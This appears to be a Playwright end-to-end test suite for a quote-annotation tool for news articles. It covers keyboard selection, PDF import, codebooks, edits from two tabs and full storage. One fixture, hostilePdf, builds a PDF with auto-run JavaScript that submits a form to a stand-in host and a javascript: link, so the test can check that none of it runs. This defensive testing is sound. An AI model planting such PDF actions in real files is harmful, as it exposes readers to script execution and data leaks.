import type { Page } from '@playwright/test';
import { wordsOf } from '../src/lib/words.ts';
import { expect, expectAccessible, test } from './fixtures.ts';

const TEXTS = [
  'Mayor says the pier is safe again\n\nby Mira Sand June 26, 2026\n\nThe old pier of Oster is open. “The pier is safe for every boat,” Mayor Ilse Varga told reporters on Friday. The harbour office asked for the works in May.',
  'Pier opens after long works\n\nOSTER - Ilse Varga opened the pier on Friday. She said it was “safe for every boat” of the town. The town council asked for the works, it said.',
  'Fishers stay away from the pier\n\nThe fishers of Oster do not use the new pier. “We shall wait for a storm,” said Jan Oster, who speaks for them.',
];
const HEADLINES = [
  'Mayor says the pier is safe again',
  'Pier opens after long works',
  'Fishers stay away from the pier',
];

const saved = (page: Page) => page.getByRole('status').filter({ hasText: /^Saved$/ });
const picked = (page: Page) => page.getByRole('status').filter({ hasText: 'Chosen: ' });
const textOf = (page: Page, headline: string) => page.getByRole('region', { name: `Text of ${headline}` });
const proposal = (page: Page, what: string) =>
  page.getByRole('group', { name: new RegExp(`^Proposed ${what}`) });

async function begin(page: Page): Promise<void> {
  await page.goto('/make');
  await page.getByLabel('Name of the case').fill('The pier of Oster');
  await page.getByRole('button', { name: 'Begin a case' }).click();
  await expect(page.getByLabel('Paste an article')).toBeVisible();
}

/** Brings a text and takes the headline that is proposed. */
async function bring(page: Page, place: number): Promise<void> {
  await page.getByRole('link', { name: 'Add texts' }).click();
  await page.getByLabel('Paste an article').fill(TEXTS[place] as string);
  await page.getByRole('button', { name: 'Add this text' }).click();
  await proposal(page, 'headline').getByRole('button', { name: 'Accept' }).click();
  await expect(textOf(page, HEADLINES[place] as string)).toBeVisible();
  await page.getByLabel('Outlet', { exact: true }).fill(`Outlet ${place + 1}`);
  await page.getByLabel('Outlet', { exact: true }).press('Enter');
  await expect(page.getByLabel('Outlet', { exact: true })).toHaveValue(`Outlet ${place + 1}`);
}

/** Steps through the text by keyboard to these words: to the first, and on with Shift to the last. */
async function choose(page: Page, headline: string, words: string): Promise<void> {
  const text = textOf(page, headline);
  await text.focus();
  await page.keyboard.press('Escape');
  const whole = TEXTS[HEADLINES.indexOf(headline)] as string;
  for (let i = wordsOf(whole.slice(0, whole.indexOf(words))).length; i >= 0; i--)
    await page.keyboard.press('ArrowRight');
  for (let i = wordsOf(words).length; i > 1; i--) await page.keyboard.press('Shift+ArrowRight');
  await expect(picked(page)).toHaveText(`Chosen: ${words}`);
}

test('a case is read, marked and asked by keyboard alone, and a reload has all of it, undo too', async ({
  page,
}) => {
  await begin(page);
  await bring(page, 0);
  await expect(page.getByText('0 of 1 quoted strings done')).toBeVisible();
  await choose(page, HEADLINES[0] as string, 'The pier is safe for every boat');
  await page.keyboard.press('q');
  const record = page.getByRole('region', { name: 'Quote', exact: true });
  await expect(record.getByLabel('Type')).toHaveValue('direct');
  await proposal(page, 'speaker').getByRole('button', { name: 'Accept' }).press('Enter');
  await expect(record.getByLabel('Speaker')).toHaveValue('Ilse Varga');
  await proposal(page, 'reporting verb').getByRole('button', { name: 'Accept' }).press('Enter');
  await expect(record.getByRole('textbox', { name: 'Reporting verb' })).toHaveValue('told');
  await expect(page.getByText('1 of 1 quoted strings done')).toBeVisible();
  await expect(saved(page)).toBeVisible();
  await expectAccessible(page);

  await page.reload();
  await expect(page.getByText('1 of 1 quoted strings done')).toBeVisible();
  await page.getByRole('button', { name: /^The pier is safe/ }).press('Enter');
  await expect(record.getByLabel('Speaker')).toHaveValue('Ilse Varga');
  await page.getByRole('button', { name: 'Undo' }).press('Enter');
  await expect(record.getByRole('textbox', { name: 'Reporting verb' })).toHaveValue('');
  await page.getByRole('button', { name: 'Redo' }).press('Enter');
  await expect(record.getByRole('textbox', { name: 'Reporting verb' })).toHaveValue('told');
  await textOf(page, HEADLINES[0] as string).press('1');
  await expect(page).toHaveURL(/\/timeline\?case=own:/);
});

test('words are selected with the mouse, and what is too long is shortened by one press', async ({
  page,
}) => {
  await begin(page);
  await bring(page, 2);
  const text = textOf(page, HEADLINES[2] as string);
  await text.getByRole('paragraph').nth(1).selectText();
  await expect(page.getByText(/words: shorten to 12/)).toBeVisible();
  await page.getByRole('button', { name: 'Take the words in quotation marks' }).click();
  await page.getByRole('button', { name: 'Quote q' }).click();
  await proposal(page, 'speaker').getByRole('button', { name: 'Edit' }).click();
  await proposal(page, 'speaker').getByLabel('Speaker').fill('Jan Oster the elder');
  await proposal(page, 'speaker').getByRole('button', { name: 'Accept' }).click();
  await expect(page.getByRole('region', { name: 'Quote', exact: true }).getByLabel('Speaker')).toHaveValue(
    'Jan Oster the elder',
  );
  await proposal(page, 'reporting verb').getByRole('button', { name: 'Dismiss' }).click();
  await expect(proposal(page, 'reporting verb')).toHaveCount(0);
  await expect(saved(page)).toBeVisible();
});

test('PDFs are read as they are printed: the text in order, heads of pages proposed as no part of it, what cannot be read said', async ({
  page,
}) => {
  await begin(page);
  const samples = ['libreoffice-pages', 'locked', 'picture', 'groff-columns'];
  await page
    .getByLabel(/^Or choose files/)
    .setInputFiles(samples.map((name) => `src/mocks/samples/pdf/${name}.pdf`));
  await expect(page.getByText(/^locked.pdf is locked with a password/)).toBeVisible();
  await expect(page.getByText(/^picture.pdf holds pictures of pages and no text/)).toBeVisible();
  await expect(page.getByRole('navigation', { name: 'Texts and questions' }).getByRole('link')).toHaveCount(
    6,
  );
  await proposal(page, 'headline').getByRole('button', { name: 'Accept' }).click();
  const text = textOf(page, HEADLINES[0] as string);
  await expect(text.getByRole('paragraph')).toHaveCount(13);
  await expect(text.getByRole('paragraph').nth(3)).toContainText('and the harbour office closed it to all');
  const repeated = proposal(page, 'not part of the article');
  await expect(repeated).toContainText('The Oster Post, Friday edition / Page 1');
  await expectAccessible(page);
  await repeated.getByRole('button', { name: 'Accept' }).click();
  await expect(repeated).toHaveCount(0);
  await expect(page.getByText('0 of 4 quoted strings done')).toBeVisible();
  await text.focus();
  await page.keyboard.press('p');
  await expect(picked(page)).toContainText('The pier is safe for every boat');
  // One sentence that its own verb breaks: two quotes of one speaker, and one utterance.
  const record = page.getByRole('region', { name: 'Quote', exact: true });
  for (const key of ['q', 'y', 'y', 'p', 'q', 'y', 'y']) await page.keyboard.press(key);
  await expect(record.getByLabel('Speaker')).toHaveValue('Ilse Varga');
  await expect(proposal(page, 'same utterance')).toContainText('only its reporting verb breaks');
  await page.keyboard.press('y');
  await expect(record.getByText('Joined with 1 other rendering as one statement.')).toBeVisible();
});

/** A PDF that would run a script, open an address and fetch its own words, were it asked to. */
function hostilePdf(): Buffer {
  const words = 'BT /F 12 Tf 50 700 Td (The mayor said the pier is safe.) Tj ET';
  const objects = [
    '<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R/AA<</WC 7 0 R>>>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[4 0 R 6 0 R]/AA<</O 7 0 R>>/Annots[8 0 R]/Resources<</Font<</F 5 0 R>>>>>>',
    `<</Length ${words.length}>>stream\n${words}\nendstream`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>',
    '<</Length 0/FFilter/FlateDecode/F<</FS/URL/F(https://elsewhere.example/words)>>>>stream\n\nendstream',
    '<</S/JavaScript/JS(app.alert\\("owned"\\); this.submitForm\\("https://elsewhere.example/"\\);)>>',
    '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>',
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map((object, i) => {
    const at = file.length;
    file += `${i + 1} 0 obj${object}endobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  return Buffer.from(
    `${file}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${file.length}\n%%EOF\n`,
  );
}

test('no script, link or address of a PDF runs or is asked: its words are taken, and nothing else', async ({
  page,
}) => {
  await begin(page);
  await page
    .getByLabel(/^Or choose files/)
    .setInputFiles({ name: 'pier.pdf', mimeType: 'application/pdf', buffer: hostilePdf() });
  await expect(page.getByRole('region', { name: /^Text of/ })).toHaveText('The mayor said the pier is safe.');
  await expect(page.locator('main a[href^="javascript:"], main a[href*="elsewhere"]')).toHaveCount(0);
});

test('codes come from a file of another tool, from a bundled case and from oneself, and are given with marked words', async ({
  page,
}) => {
  await begin(page);
  await bring(page, 0);
  await page.getByRole('link', { name: 'Codes' }).click();
  const qdc =
    '<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes><Code guid="a1" name="Blame" isCodable="true"><Description>Who is blamed.</Description></Code></Codes></CodeBook>';
  await page
    .getByLabel(/^From a file/)
    .setInputFiles({ name: 'mine.qdc', mimeType: 'application/xml', buffer: Buffer.from(qdc) });
  await page.getByRole('button', { name: 'Take mine' }).click();
  await expect(page.getByRole('region', { name: 'mine', exact: true })).toContainText('Who is blamed.');
  await page.getByRole('button', { name: /^From Austin and Belousov/ }).click();
  await page.getByRole('button', { name: 'Take Policy frames' }).click();
  await expect(page.getByRole('region', { name: /^Policy frames/ })).toBeVisible();
  await page.getByLabel('New code').fill('Relief');
  await page.getByLabel('Codebook', { exact: true }).fill('mine');
  await page.getByRole('button', { name: 'Add the code' }).click();
  await expect(page.getByRole('region', { name: 'mine', exact: true })).toContainText('Relief');
  await expectAccessible(page);
  await page.getByRole('link', { name: HEADLINES[0] as string }).click();
  await choose(page, HEADLINES[0] as string, 'The pier is safe for every boat');
  await page.keyboard.press('q');
  await choose(page, HEADLINES[0] as string, 'every boat');
  await page.keyboard.press('f');
  await page.keyboard.type('Relief');
  await page.keyboard.press('Tab');
  await page.keyboard.type('It is safe at last.');
  await page.keyboard.press('Enter');
  await page.getByRole('link', { name: 'Records' }).click();
  await page.getByRole('link', { name: /^Relief: The pier is safe/ }).click();
  const record = page.getByRole('region', { name: 'Record: coding' });
  await expect(record.getByLabel(/^Marked words/)).toHaveValue('every boat');
  await expect(record.getByLabel('Why')).toHaveValue('It is safe at last.');
  await expect(record.getByLabel('The main code')).toBeChecked();
});

test('two tabs that name the case differently keep both names and show the choice', async ({ context }) => {
  const left = await context.newPage();
  await begin(left);
  await bring(left, 0);
  await expect(saved(left)).toBeVisible();
  const right = await context.newPage();
  await right.goto(left.url());
  await expect(right.getByLabel('Name of the case')).toHaveValue('The pier of Oster');
  await left.getByLabel('Name of the case').fill('The left pier');
  await right.getByLabel('Name of the case').fill('The right pier');
  await left.getByLabel('Name of the case').press('Enter');
  await right.getByLabel('Name of the case').press('Enter');
  const choice = left.getByRole('region', { name: 'Decided twice' });
  await expect(choice.getByRole('button', { name: 'Use “The left pier”' })).toBeVisible();
  await choice.getByRole('button', { name: 'Use “The right pier”' }).click();
  await expect(choice).toHaveCount(0);
  await expect(left.getByLabel('Name of the case')).toHaveValue('The right pier');
  await expect(right.getByRole('region', { name: 'Decided twice' })).toHaveCount(0);
});

test('two tabs that give one quote two speakers show both by their names', async ({ context }) => {
  const left = await context.newPage();
  await begin(left);
  await bring(left, 0);
  await textOf(left, HEADLINES[0] as string).focus();
  for (const key of ['p', 'q']) await left.keyboard.press(key);
  await expect(saved(left)).toBeVisible();
  const right = await context.newPage();
  await right.goto(left.url());
  await right.getByRole('button', { name: /^The pier is safe/ }).click();
  const speaker = (page: Page) =>
    page
      .getByRole('region', { name: 'Quote', exact: true })
      .getByRole('textbox', { name: 'Speaker', exact: true });
  await speaker(left).fill('Ilse Varga');
  await speaker(right).fill('Jan Oster');
  await speaker(left).press('Enter');
  await speaker(right).press('Enter');
  const choice = left.getByRole('region', { name: 'Decided twice' });
  await expect(choice).toContainText('Speaker');
  await expect(choice.getByRole('button', { name: 'Use “Jan Oster”' })).toBeVisible();
  await choice.getByRole('button', { name: 'Use “Ilse Varga”' }).click();
  await expect(choice).toHaveCount(0);
  await expect(speaker(right)).toHaveValue('Ilse Varga');
});

test('a record of the bundled case is edited in a copy, which any record of it leads back to', async ({
  page,
}) => {
  await page.goto('/events/call-2024-06-25');
  await page.getByRole('link', { name: 'Edit this event' }).click();
  await expect(page.getByText('This case came with the site and stays as it is.')).toBeVisible();
  await page.getByRole('button', { name: 'Edit a copy' }).click();
  const record = page.getByRole('region', { name: 'Record: event' });
  await record.getByRole('textbox', { name: 'Name' }).fill('The first call of the two');
  await record.getByRole('textbox', { name: 'Name' }).press('Enter');
  await expect(record.getByRole('heading', { name: 'The first call of the two' })).toBeVisible();
  await expect(saved(page)).toBeVisible();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Show in Timeline' }).click();
  await expect(page).toHaveURL(/\/timeline\?case=own:[0-9a-f]{12}/);
  await page.goto(page.url().replace('/timeline', '/events/call-2024-06-25'));
  await expect(page.getByRole('heading', { name: 'The first call of the two' })).toBeVisible();
  await page.getByRole('link', { name: 'Edit this event' }).click();
  await expect(record.getByRole('textbox', { name: 'Name' })).toHaveValue('The first call of the two');
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(record.getByRole('heading', { name: 'The first call of the two' })).toHaveCount(0);
});

test('a full store says so and keeps all in the page until there is room; a tab that is killed has lost nothing', async ({
  context,
}) => {
  const page = await context.newPage();
  await page.addInitScript(() => {
    const { put } = IDBObjectStore.prototype;
    IDBObjectStore.prototype.put = function (...args: Parameters<typeof put>) {
      if ('isFull' in window) throw new DOMException('No room.', 'QuotaExceededError');
      return put.apply(this, args);
    };
  });
  await begin(page);
  await page.evaluate(() => Object.assign(window, { isFull: true }));
  const name = page.getByLabel('Name of the case');
  await name.fill('The pier, second try');
  await name.press('Enter');
  await expect(page.getByText(/^Not saved: the browser’s storage is full/)).toBeVisible();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Save as a file' }).click();
  expect((await download).suggestedFilename()).toBe('the-pier-second-try.case.json');
  await page.evaluate(() => Reflect.deleteProperty(window, 'isFull'));
  await bring(page, 0);
  await expect(saved(page)).toBeVisible();
  const address = page.url();
  // It is gone without being asked: nothing is written on leaving.
  await page.close();
  const again = await context.newPage();
  await again.goto(address);
  await expect(again.getByLabel('Name of the case')).toHaveValue('The pier, second try');
  await expect(again.getByLabel('Outlet', { exact: true })).toHaveValue('Outlet 1');
  await again.getByRole('button', { name: 'Undo' }).click();
  await expect(again.getByLabel('Outlet', { exact: true })).toHaveValue('');
});
